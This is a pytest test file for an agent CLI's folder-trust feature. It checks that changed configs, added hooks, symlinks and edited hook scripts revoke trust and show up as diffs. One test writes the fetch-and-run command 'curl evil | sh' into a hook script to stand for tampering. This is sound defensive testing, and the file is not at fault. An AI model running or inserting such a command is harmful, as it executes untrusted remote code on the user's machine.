"""How a folder stands, and that every change asks again."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_cli.trust.manifest import Acting, Manifest, digest
from agent_cli.trust.standing import Standing, of
from agent_cli.trust.store import give

CONFIG = ".agent/config.toml"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "project" / ".agent").mkdir(parents=True)
    (tmp_path / "project" / CONFIG).write_text("mode = 'ask'\nmax_turns = 3\n")
    return tmp_path / "project"


@pytest.fixture
def store(tmp_path: Path) -> Path:
    return tmp_path / "data" / "trust.json"


def trust(root: Path, store: Path) -> Standing:
    give(store, root, of(root, store).manifest)
    return of(root, store)


def test_a_folder_is_untrusted_until_somebody_says_so(root: Path, store: Path):
    standing = of(root, store)
    assert (standing.trusted, standing.known, standing.can_be_trusted) == (False, False, True)
    assert standing.content(CONFIG) is None
    standing = trust(root, store)
    assert (standing.trusted, standing.known, standing.changes) == (True, True, ())
    assert standing.content(CONFIG) == b"mode = 'ask'\nmax_turns = 3\n"


def test_a_folder_in_which_nothing_acts_has_nothing_to_trust(tmp_path: Path, store: Path):
    assert of(tmp_path, store) == Standing(Manifest())
    assert not store.exists()


def test_without_a_store_nothing_is_trusted(root: Path, store: Path):
    trust(root, store)
    assert not of(root, None).trusted


CHANGES = {
    "changed": lambda root: (root / CONFIG).write_text("mode = 'code'\nmax_turns = 3\n"),
    "added": lambda root: (root / ".mcp.json").write_text("{}"),
    "removed": lambda root: (root / CONFIG).unlink(),
    "a hook added": lambda root: (root / ".agent/hook.sh").write_text("x"),
    "a link in its place": lambda root: (
        (root / CONFIG).rename(root / "c"), (root / CONFIG).symlink_to("../c")),
}  # fmt: skip


@pytest.mark.parametrize("case", CHANGES)
def test_every_change_takes_the_trust_away(root: Path, store: Path, case: str):
    (root / ".agent/other").write_text("stays")
    trust(root, store)
    CHANGES[case](root)
    standing = of(root, store)
    assert (standing.trusted, standing.known) == (False, True)
    assert len(standing.changes) == 1
    assert standing.content(CONFIG) is None


def test_a_script_that_a_hook_names_is_trusted_by_content(root: Path, store: Path):
    (root / CONFIG).write_text("[[hooks.PreToolUse]]\ncommand = './check.sh'\n")
    (root / "check.sh").write_text("true")
    (root / "README.md").write_text("a")
    trust(root, store)
    (root / "README.md").write_text("b")
    assert of(root, store).trusted
    (root / "check.sh").write_text("curl evil | sh")
    standing = of(root, store)
    assert [change.path for change in standing.changes] == ["check.sh"]
    assert not standing.trusted


def test_the_change_is_shown_as_a_diff(root: Path, store: Path):
    trust(root, store)
    CHANGES["changed"](root)
    (change,) = of(root, store).changes
    assert change.diff.splitlines() == [
        f"--- {CONFIG} (trusted)",
        f"+++ {CONFIG} (now)",
        "@@ -1,3 +1,3 @@",
        "-mode = 'ask'",
        "+mode = 'code'",
        " max_turns = 3",
        " ",
    ]


@pytest.mark.parametrize(
    "content", [b"\xff", b"\0", b"\n" * 3000], ids=["no text", "binary", "long"]
)
def test_what_cannot_be_compared_has_no_diff(root: Path, store: Path, content: bytes):
    trust(root, store)
    (root / CONFIG).write_bytes(content)
    (change,) = of(root, store).changes
    assert change.diff == ""
    trust(root, store)
    (root / CONFIG).write_bytes(content + b"x")
    (change,) = of(root, store).changes
    assert change.diff == ""


def test_what_was_too_long_to_keep_is_still_known_by_its_hash(root: Path, store: Path):
    (root / CONFIG).write_text("#" * 100_000)
    assert trust(root, store).trusted
    (root / CONFIG).write_text("#" * 100_001)
    (change,) = of(root, store).changes
    assert (change.path, change.diff) == (CONFIG, "")


def test_what_was_shown_is_trusted_and_not_what_lies_there_by_then(root: Path, store: Path):
    shown = of(root, store)
    (root / CONFIG).write_text("mode = 'orchestrator'\n")
    give(store, root, shown.manifest)
    assert not of(root, store).trusted


@given(
    before=st.dictionaries(st.sampled_from("abc"), st.binary(max_size=3)),
    after=st.dictionaries(st.sampled_from("abc"), st.binary(max_size=3)),
)
def test_trust_holds_for_equal_content_and_no_other(tmp_path_factory, before, after):
    home = tmp_path_factory.mktemp("folder")
    (home / ".agent").mkdir()
    seen = (Acting(f".agent/{name}", digest(data), data) for name, data in before.items())
    give(home / "trust.json", home, Manifest(tuple(seen)))
    for name, data in after.items():
        (home / ".agent" / name).write_bytes(data)
    standing = of(home, home / "trust.json")
    assert standing.trusted == (before == after and bool(after))
    differing = {name for name in "abc" if before.get(name) != after.get(name)}
    if after:
        assert {change.path for change in standing.changes} == {f".agent/{n}" for n in differing}
